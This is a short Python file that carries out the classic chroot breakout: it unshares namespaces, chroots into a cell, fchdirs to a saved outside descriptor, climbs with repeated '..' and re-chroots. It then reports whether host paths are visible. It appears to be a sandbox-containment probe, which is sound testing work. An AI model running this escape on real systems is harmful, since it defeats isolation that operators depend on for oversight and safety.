"""Climbs out of a root of its own, the classic way. Contained: above is the sandbox's root only."""

import contextlib
import ctypes
import os


def run(items):
    libc = ctypes.CDLL(None, use_errno=True)
    outside = os.open("/", os.O_RDONLY)
    libc.unshare(0x10000000 | 0x00020000)
    os.makedirs("/tmp/cell", exist_ok=True)
    with contextlib.suppress(OSError):
        os.chroot("/tmp/cell")
    with contextlib.suppress(OSError):
        os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    with contextlib.suppress(OSError):
        os.chroot(".")
    seen = [path for path in items[0]["paths"] if os.path.exists(path)]
    seen += [path for path in items[0]["paths"] if os.path.exists("." + path)]
    seen += [name for name in os.listdir(".") if name in ("root", "home", "boot", "work", "opt")]
    return [{"escaped": bool(seen), "seen": seen}]
